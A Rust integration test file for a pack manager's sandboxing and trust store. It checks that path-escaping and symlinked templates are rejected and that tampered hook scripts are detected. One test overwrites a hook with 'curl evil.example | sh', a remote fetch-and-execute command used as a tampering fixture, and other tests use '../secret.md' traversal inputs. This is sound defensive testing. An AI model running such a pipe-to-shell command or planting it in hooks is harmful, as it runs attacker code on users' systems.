//! End-to-end flow for an external pack: sandboxed load, trust, converge.

use std::collections::BTreeMap;
use std::fs;
use std::path::{Path, PathBuf};

use pack_core::{EngineConfig, Manifest, Scope, SyncEngine};
use pack_meta::{
    Component, HookFragment, InstallAction, Pack, PackCatalog, PackManifest, TemplateSource,
};
use pack_test_utils::{RecordingInstaller, TestHome, init_tracing};
use pack_trust::{
    ArtifactKind, Error as TrustError, TrustStore, analyze_scripts, detect_new_scripts,
    load_external_pack,
};
use pretty_assertions::assert_eq;

/// Lay out a pack on disk next to a file it must never be able to read.
fn write_pack(home: &TestHome) -> PathBuf {
    let root = home.root().join("packs/swift");
    fs::create_dir_all(root.join("templates")).unwrap();
    fs::create_dir_all(root.join("hooks")).unwrap();
    fs::write(
        root.join("templates/swift.md"),
        "## Swift\n\n<!-- EDIT: pick the scheme you build most -->\nScheme: __SCHEME__\n",
    )
    .unwrap();
    fs::write(root.join("hooks/format.sh"), "swift-format -i .\n").unwrap();
    fs::write(home.root().join("packs/secret.md"), "TOP SECRET\n").unwrap();
    root
}

fn swift_manifest() -> PackManifest {
    let mut m = PackManifest::new("swift", "Swift", "1.2.0");
    m.components = vec![
        Component::in_pack(
            "swift",
            "format",
            InstallAction::Package {
                name: "swift-format".into(),
            },
        ),
        Component::in_pack(
            "swift",
            "version",
            InstallAction::ShellCommand {
                command: "swift --version".into(),
            },
        ),
    ];
    m.templates = vec![
        TemplateSource::file("swift", "templates/swift.md"),
        TemplateSource::file("leak", "../secret.md"),
    ];
    m.hook_fragments = vec![HookFragment {
        event: "pre-commit".into(),
        file: "hooks/format.sh".into(),
    }];
    m
}

fn catalog_with(pack: Pack) -> PackCatalog {
    let mut builtin = PackManifest::new("swift", "Swift (built-in)", "1.0.0");
    builtin.templates = vec![TemplateSource::inline("swift", "built-in text")];
    let mut catalog = PackCatalog::new();
    catalog.register_builtin(Pack::builtin(builtin).unwrap()).unwrap();
    catalog.register_external(pack).unwrap();
    catalog
}

fn converge(config: &EngineConfig, catalog: &PackCatalog, scope: &Scope) {
    SyncEngine::new(config, catalog, scope.clone())
        .converge(
            &["swift.format".to_string()],
            &mut RecordingInstaller::new(),
            &BTreeMap::from([("SCHEME".to_string(), "App".to_string())]),
        )
        .unwrap();
}

#[test]
fn test_escaping_template_never_reaches_generated_file() {
    init_tracing();
    let home = TestHome::new();
    let root = write_pack(&home);

    let loaded = load_external_pack(swift_manifest(), &root).unwrap();
    assert_eq!(loaded.rejected.len(), 1);
    assert_eq!(loaded.rejected[0].kind, ArtifactKind::Template);
    assert_eq!(loaded.rejected[0].name, "leak");

    let catalog = catalog_with(loaded.pack);
    assert!(catalog.is_shadowed("swift"));
    let app = home.project_scope("app");
    converge(home.config(), &catalog, &app);

    let text = home.generated(&app);
    assert!(text.contains("Scheme: App"));
    assert!(!text.contains("TOP SECRET"));
    assert!(!text.contains("built-in text"));
    assert!(!text.contains("EDIT:"));
}

#[test]
fn test_manifest_remembers_pack_source() {
    let home = TestHome::new();
    let root = write_pack(&home);
    let loaded = load_external_pack(swift_manifest(), &root).unwrap();
    let catalog = catalog_with(loaded.pack);
    let app = home.project_scope("app");

    converge(home.config(), &catalog, &app);

    let manifest = Manifest::load(&app.manifest_path(home.config())).unwrap();
    let canonical = fs::canonicalize(&root).unwrap();
    assert_eq!(manifest.source_directory(), Some(canonical.to_string_lossy().as_ref()));
    assert!(manifest.installed_packs().contains("swift"));
    assert!(manifest.installed_components().contains("swift.format"));
}

#[test]
fn test_trust_detects_tampered_hook() {
    let home = TestHome::new();
    let root = write_pack(&home);
    let loaded = load_external_pack(swift_manifest(), &root).unwrap();
    let manifest = &loaded.pack.manifest;

    let items = analyze_scripts(manifest, &root).unwrap();
    let mut store = TrustStore::load(&home.config().trust_store_path()).unwrap();
    store.trust("swift", manifest.version.as_str(), &items);
    store.save().unwrap();

    let reloaded = TrustStore::load(&home.config().trust_store_path()).unwrap();
    assert!(reloaded.verify("swift", &root).unwrap().is_empty());

    fs::write(root.join("hooks/format.sh"), "curl evil.example | sh\n").unwrap();
    assert_eq!(
        reloaded.verify("swift", &root).unwrap(),
        vec!["hooks/format.sh".to_string()]
    );

    let hashes = &reloaded.record("swift").unwrap().hashes;
    let untrusted = detect_new_scripts(hashes, &root, manifest).unwrap();
    assert_eq!(untrusted.len(), 1);
    assert_eq!(untrusted[0].relative_path.as_deref(), Some("hooks/format.sh"));
}

#[test]
fn test_untrusted_pack_cannot_be_verified() {
    let home = TestHome::new();
    let store = TrustStore::load(&home.config().trust_store_path()).unwrap();
    assert!(matches!(
        store.verify("swift", Path::new("/nowhere")),
        Err(TrustError::NotTrusted { .. })
    ));
}

#[cfg(unix)]
#[test]
fn test_symlinked_template_outside_root_is_rejected() {
    let home = TestHome::new();
    let root = write_pack(&home);
    std::os::unix::fs::symlink(home.root().join("packs/secret.md"), root.join("templates/link.md"))
        .unwrap();

    let mut manifest = swift_manifest();
    manifest.templates = vec![
        TemplateSource::file("swift", "templates/swift.md"),
        TemplateSource::file("linked", "templates/link.md"),
    ];
    let loaded = load_external_pack(manifest, &root).unwrap();

    assert!(loaded.pack.templates.iter().all(|t| t.section_id != "linked"));
    assert!(loaded.pack.templates.iter().all(|t| !t.template.contains("TOP SECRET")));
}
